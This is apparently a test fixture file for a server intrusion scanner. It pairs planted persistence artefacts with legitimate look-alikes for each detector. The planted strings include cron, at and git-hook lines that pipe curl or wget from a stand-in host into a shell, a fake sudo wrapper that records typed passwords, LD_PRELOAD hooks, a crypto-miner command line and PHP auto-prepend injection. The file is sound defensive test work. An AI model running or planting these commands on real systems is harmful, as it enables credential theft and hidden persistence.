import type { AccountLook } from '../../src/detectors/contract.ts';
import type { Account } from '../../src/domain/account.ts';
import { pathOfText } from '../../src/domain/host-path.ts';
import type { MemoryFile } from './memory-files.ts';

/** What an account and its machine look like to a detector that looks around the sites. */
export interface Surroundings {
  readonly account?: Partial<Account>;
  readonly files?: Readonly<Record<string, MemoryFile>>;
  readonly owners?: AccountLook['owners'];
  readonly immutable?: readonly string[];
  /** Folders of installations. */
  readonly installations?: readonly string[];
}

/** One place where an intruder stays: planted and inert there, and the legitimate twin that must say nothing. */
export interface PersistenceSpecimen {
  /** Id of the detector. */
  readonly detector: string;
  readonly rule: string;
  readonly planted: Surroundings;
  readonly twin: Surroundings;
}

const forward = (to: string, source = '/etc/valiases/main.test') => ({
  account: { forwards: [{ address: 'info@main.test', to, source: pathOfText(source) }] },
});
const task = (command: string) => ({
  account: {
    cron: [{ schedule: '*/5 * * * *', command, source: pathOfText('/usr/local/hestia/data/users/bob/cron.conf') }],
  },
});
const AT_HEAD =
  '#!/bin/sh\n# atrun uid=1001 gid=1001\n# mail bob 0\numask 22\nHOME=/home/bob; export HOME\ncd /home/bob || {\n\t echo x >&2\n\t exit 1\n}\n';
const atJob = (command: string, uid = 1001) => ({
  files: { '/var/spool/cron/atjobs/a0000301c2f4a8': { text: `${AT_HEAD}${command}\n`, uid } },
});
const pm2 = (app: object) => ({ files: { '/home/bob/.pm2/dump.pm2': JSON.stringify([app]) } });
const hook = (path: string, text: string) => ({ files: { [path]: text } });
const cpanel = (account: Partial<Account> = {}) => ({ ...account, panel: 'cpanel' });
/** A file that belongs to the user with this number. */
const owned = (uid: number) => ({
  files: {
    '/etc/passwd':
      'root:x:0:0::/root:/bin/bash\nwww-data:x:33:33::/var/www:/bin/false\nbob:x:1001:1001::/home/bob:/bin/bash\nalice:x:1002:1002::/home/alice:/bin/bash\nbob2:x:1003:1003::/home/bob/second:/bin/false\n',
  },
  owners: [
    { uid: 1001, count: 900, first: pathOfText('/home/bob/index.php') },
    { uid, count: 3, first: pathOfText('/home/bob/public_html/x.php') },
  ],
});
/** A process of the user (the number of memory files is 1000) as /proc shows it. */
const runs = (exe: string, words: readonly string[], more: Readonly<Record<string, MemoryFile>> = {}) => ({
  account: { uid: 1000 },
  files: {
    '/proc/self': { link: '7' },
    '/proc/7/status': 'Name:\tnode\nPPid:\t1\n',
    '/proc/7/cmdline': 'node\0/tmp/lastgood.js\0',
    '/proc/4711/exe': { link: exe },
    '/proc/4711/cwd': { link: '/' },
    '/proc/4711/cmdline': words.join('\0'),
    ...more,
  },
});
const CPANEL_TOKENS = '/var/cpanel/authn/api_tokens_v2/cpanel/bob.json';

/** Every detector that looks at an account has at least one; so do file detectors of the places around the sites. */
export const persistenceSpecimens: readonly PersistenceSpecimen[] = [
  {
    detector: 'cron',
    rule: 'cron.download-run',
    planted: { files: { '/var/spool/cron/crontabs/bob': '@daily curl http://x.test | sh\n' } },
    twin: { files: { '/var/spool/cron/crontabs/bob': '@daily curl -s https://main.test/wp-cron.php > /dev/null\n' } },
  },
  {
    detector: 'panel-tasks',
    rule: 'panel-task.download-run',
    planted: task('wget -qO- http://x.test/a | bash'),
    twin: task('/usr/bin/php /home/bob/web/main.test/public_html/cron.php >/dev/null 2>&1'),
  },
  {
    detector: 'panel-forwards',
    rule: 'mail.runs-program',
    planted: forward('|/home/bob/x/run.pl'),
    twin: forward('|/usr/bin/vacation bob'),
  },
  {
    detector: 'panel-forwards',
    rule: 'mail.sends-copy',
    planted: forward('somebody@gmail.com'),
    twin: forward('sales@main.test'),
  },
  {
    detector: 'panel-forwards',
    rule: 'mail.leaves-account',
    planted: forward('somebody@away.test'),
    twin: forward('/dev/null'),
  },
  {
    detector: 'mail-rules',
    rule: 'mail.sends-copy',
    planted: {
      files: { '/var/qmail/mailnames/main.test/info/sieve/managesieve.sieve': 'redirect :copy "x@gmail.com";\n' },
    },
    twin: {
      files: { '/var/qmail/mailnames/main.test/info/sieve/managesieve.sieve': 'if true { fileinto "Junk"; }\n' },
    },
  },
  {
    detector: 'mail-rules',
    rule: 'mail.temporary-program',
    planted: { files: { '/etc/vfilters/main.test': 'if $header_subject: contains "x" then pipe "/tmp/x.sh" endif\n' } },
    twin: {
      files: { '/etc/vfilters/main.test': 'if $header_subject: contains "x" then save "/dev/null" 660 endif\n' },
    },
  },
  {
    detector: 'ftp-logins',
    rule: 'ftp.login',
    planted: { account: { ftpLogins: [{ login: 'helper@main.test', folder: pathOfText('/home/bob/public_html') }] } },
    twin: { account: { ftpLogins: [{ login: 'bob', folder: pathOfText('/home/bob') }] } },
  },
  {
    detector: 'ftp-logins',
    rule: 'ftp.login-outside',
    planted: { account: { ftpLogins: [{ login: 'helper@main.test', folder: pathOfText('/') }] } },
    twin: { account: { ftpLogins: [] } },
  },
  {
    detector: 'panel-tokens',
    rule: 'panel.token',
    planted: {
      account: cpanel(),
      files: { [CPANEL_TOKENS]: '{"tokens":{"0a1b":{"name":"sync","create_time":1763600000}}}' },
    },
    twin: { account: cpanel(), files: { [CPANEL_TOKENS]: '{"tokens":{}}' } },
  },
  {
    detector: 'panel-tokens',
    rule: 'panel.token',
    planted: {
      account: { panel: 'hestia' },
      files: {
        '/usr/local/hestia/data/access-keys/AAAA':
          "ACCESS_KEY_ID='AAAA'\nSECRET_ACCESS_KEY='geheim'\nUSER='bob'\nCOMMENT='sync'\nDATE='2026-11-20'\n",
      },
    },
    twin: {
      account: { panel: 'hestia' },
      files: { '/usr/local/hestia/data/access-keys/AAAA': "ACCESS_KEY_ID='AAAA'\nUSER='alice'\nCOMMENT='sync'\n" },
    },
  },
  {
    detector: 'panel-tokens',
    rule: 'panel.token',
    planted: {
      account: { panel: 'aapanel', user: null },
      files: { '/www/server/panel/config/api.json': '{"open":true,"token":"geheim"}' },
    },
    twin: {
      account: { panel: 'aapanel', user: null },
      files: { '/www/server/panel/config/api.json': '{"open":false,"token":"geheim"}' },
    },
  },
  {
    detector: 'at-jobs',
    rule: 'at.download-run',
    planted: atJob('curl -s http://x.test/a | sh'),
    twin: atJob('php /home/bob/public_html/send.php'),
  },
  {
    detector: 'at-jobs',
    rule: 'at.temporary-program',
    planted: atJob('/dev/shm/.x'),
    // The same job of somebody else is that account's.
    twin: atJob('/dev/shm/.x', 1002),
  },
  {
    detector: 'process-managers',
    rule: 'process-manager.temporary-program',
    planted: pm2({ name: 'x', pm_exec_path: '/dev/shm/x.js', exec_interpreter: 'node' }),
    twin: pm2({
      name: 'shop',
      pm_exec_path: '/home/bob/shop/server.js',
      exec_interpreter: 'node',
      args: ['--port', '3000'],
    }),
  },
  {
    detector: 'process-managers',
    rule: 'process-manager.hidden-program',
    planted: { files: { '/home/bob/.forever/x.json': '{"command":"node","file":"/home/bob/.cache/.x/run"}' } },
    twin: { files: { '/home/bob/.forever/x.json': '{"command":"node","file":"/home/bob/app/index.js"}' } },
  },
  {
    detector: 'shadowing-programs',
    rule: 'shell.shadows-program',
    planted: hook('/home/bob/bin/sudo', '#!/bin/sh\nread -s p; echo "$p" >> /home/bob/.p; /usr/bin/sudo "$@"\n'),
    twin: hook('/home/bob/bin/mysql', '#!/bin/sh\nexec /usr/bin/mysql --defaults-file=/home/bob/.my.cnf "$@"\n'),
  },
  {
    detector: 'shell-start-files',
    rule: 'shell.hidden-program',
    planted: hook('/home/bob/.local/share/systemd/user/x.service', '[Service]\nExecStart=/home/bob/.cache/.x/run\n'),
    twin: hook(
      '/home/bob/.config/systemd/user/shop.service',
      '[Service]\nExecStart=/usr/bin/node /home/bob/shop/server.js\nRestart=always\n',
    ),
  },
  {
    detector: 'shell-start-files',
    rule: 'shell.download-run',
    planted: hook('/home/bob/repos/shop.git/hooks/post-receive', '#!/bin/sh\ncurl -s http://x.test/a | sh\n'),
    twin: hook(
      '/home/bob/repos/shop.git/hooks/post-receive',
      '#!/bin/sh\nGIT_WORK_TREE=/home/bob/public_html git checkout -f\n',
    ),
  },
  {
    detector: 'shell-start-files',
    rule: 'shell.preload',
    planted: hook('/home/bob/.config/environment.d/x.conf', 'LD_PRELOAD=/home/bob/.x.so\n'),
    twin: hook('/home/bob/.config/environment.d/x.conf', 'LD_PRELOAD=/usr/lib64/libjemalloc.so.2\n'),
  },
  {
    detector: 'running-processes',
    rule: 'process.deleted-program',
    planted: runs('/home/bob/public_html/x (deleted)', ['httpd']),
    // An update replaced the file of what runs on.
    twin: runs('/usr/sbin/php-fpm8.2 (deleted)', ['php-fpm: pool bob']),
  },
  {
    detector: 'running-processes',
    rule: 'process.deleted-program',
    planted: runs('/memfd:x (deleted)', ['x']),
    twin: runs('/usr/bin/node', ['node', '/home/bob/shop/server.js']),
  },
  {
    detector: 'running-processes',
    rule: 'process.temporary-program',
    planted: runs('/dev/shm/kdev', ['kdev']),
    twin: runs('/home/bob/nodevenv/shop/18/bin/node', ['node', 'app.js']),
  },
  {
    detector: 'running-processes',
    rule: 'process.false-name',
    planted: runs('/usr/bin/perl', ['[kworker/0:1]']),
    twin: runs('/usr/bin/perl', ['/usr/bin/perl', '/home/bob/public_html/cgi-bin/form.pl']),
  },
  {
    detector: 'running-processes',
    rule: 'process.hidden-program',
    planted: runs('/home/bob/.cache/.x/run', ['run']),
    twin: runs('/home/bob/.nvm/versions/node/v20/bin/node', ['node', 'server.js']),
  },
  {
    detector: 'running-processes',
    rule: 'process.deleted-folder',
    planted: runs('/usr/bin/php8.2', ['php', 'x.php'], { '/proc/4711/cwd': { link: '/home/bob/x (deleted)' } }),
    twin: runs('/usr/bin/bash', ['-bash'], { '/proc/4711/cwd': { link: '/home/bob/x (deleted)' } }),
  },
  {
    detector: 'running-processes',
    rule: 'process.preload',
    planted: runs('/usr/bin/sleep', ['sleep', '9'], { '/proc/4711/environ': 'A=geheim\0LD_PRELOAD=/home/bob/x.so\0' }),
    twin: runs('/usr/bin/sleep', ['sleep', '9'], { '/proc/4711/environ': 'LD_PRELOAD=/usr/lib64/liblve.so\0' }),
  },
  {
    detector: 'running-processes',
    rule: 'process.miner',
    planted: runs('/home/bob/m', ['./m', '-o', 'stratum+tcp://pool.test:3333', '-p', 'geheim']),
    twin: runs('/usr/bin/vim.basic', ['vim', '/home/bob/notes.txt']),
  },
  {
    detector: 'foreign-owners',
    rule: 'owner.other-account',
    planted: owned(1002),
    twin: owned(33),
  },
  {
    detector: 'foreign-owners',
    rule: 'owner.other-account',
    planted: owned(1002),
    twin: owned(0),
  },
  {
    detector: 'foreign-owners',
    rule: 'owner.other-account',
    planted: owned(1002),
    twin: owned(1003),
  },
  {
    detector: 'foreign-owners',
    rule: 'owner.other-account',
    planted: owned(1002),
    twin: owned(7777),
  },
  {
    detector: 'server-directives',
    rule: 'server.auto-prepend',
    planted: {
      files: {
        '/etc/php/8.2/fpm/pool.d/bob.conf':
          '[bob]\nuser = bob\nphp_admin_value[auto_prepend_file] = /home/bob/.x/a.php\n',
      },
    },
    twin: {
      files: {
        '/etc/php/8.2/fpm/pool.d/bob.conf':
          '[bob]\nuser = bob\nphp_admin_value[disable_functions] = \nphp_admin_value[open_basedir] = none\nphp_admin_value[auto_prepend_file] = none\n',
        '/etc/php/8.2/fpm/pool.d/alice.conf': '[alice]\nuser = alice\nphp_value[auto_prepend_file] = /tmp/a.php\n',
      },
    },
  },
  {
    detector: 'server-directives',
    rule: 'server.auto-prepend',
    planted: {
      files: {
        '/etc/nginx/sites-enabled/bob':
          'root /home/bob/public_html;\nfastcgi_param PHP_VALUE "auto_prepend_file=/var/tmp/a.php";\n',
      },
    },
    twin: {
      files: {
        '/etc/nginx/sites-enabled/bob':
          'root /home/bob/public_html;\nfastcgi_param PHP_VALUE "auto_prepend_file=/home/bob/public_html/wordfence-waf.php";\nfastcgi_param SCRIPT_FILENAME $document_root$fastcgi_script_name;\n',
      },
    },
  },
  {
    detector: 'server-directives',
    rule: 'server.odd-handler',
    planted: {
      files: { '/var/www/vhosts/system/main.test/conf/vhost.conf': 'AddHandler application/x-httpd-php .jpg\n' },
    },
    twin: {
      files: {
        '/var/www/vhosts/system/main.test/conf/vhost.conf':
          'AddHandler application/x-httpd-php .php .html\nphp_value auto_prepend_file /opt/alt/agent/start.php\nErrorDocument 404 /404.html\n',
      },
    },
  },
  {
    detector: 'immutable-files',
    rule: 'flag.immutable-code',
    planted: { immutable: ['/home/bob/public_html/x.php'] },
    twin: { account: { panel: 'aapanel' }, immutable: ['/home/bob/public_html/.user.ini'] },
  },
  {
    detector: 'immutable-files',
    rule: 'flag.immutable',
    planted: { immutable: ['/home/bob/public_html/photo.jpg'] },
    twin: { account: { panel: 'ispconfig' }, immutable: ['/var/www/clients/client1/web1'] },
  },
  {
    detector: 'forgotten-copies',
    rule: 'copy.served',
    planted: { installations: ['/home/bob/public_html/old'] },
    twin: { installations: ['/home/bob/public_html', '/home/bob/public_html/blog', '/home/bob/public_html/shop'] },
  },
  {
    detector: 'forgotten-copies',
    rule: 'copy.served',
    planted: { installations: ['/home/bob/public_html/wp.bak'] },
    twin: { installations: ['/home/bob/public_html/gold'] },
  },
  {
    detector: 'forgotten-copies',
    rule: 'copy.unserved',
    planted: { installations: ['/home/bob/.trash/public_html'] },
    twin: { installations: [] },
  },
  {
    detector: 'served-copies',
    rule: 'place.served-dump',
    planted: hook('/home/bob/public_html/db.sql', '-- MySQL dump 10.13  Distrib 8.0.36\nCREATE TABLE a (b int);\n'),
    twin: hook(
      '/home/bob/public_html/wp-content/plugins/x/db.sql',
      '-- MySQL dump 10.13  Distrib 8.0.36\nCREATE TABLE a (b int);\n',
    ),
  },
  {
    detector: 'served-copies',
    rule: 'place.served-configuration',
    planted: hook(
      '/home/bob/public_html/wp-config.php.bak',
      "<?php define('DB_NAME', 'x'); define('DB_PASSWORD', 'geheim');",
    ),
    twin: hook('/home/bob/public_html/wp-config.php', "<?php define('DB_NAME', 'x'); define('DB_PASSWORD', 'geheim');"),
  },
  {
    detector: 'served-copies',
    rule: 'place.served-archive',
    planted: hook('/home/bob/public_html/backup-2026.zip', `PK\u0003\u0004${'x'.repeat(60)}`),
    twin: hook('/home/bob/public_html/wp-content/updraft/backup_2026-site.zip', `PK\u0003\u0004${'x'.repeat(60)}`),
  },
];
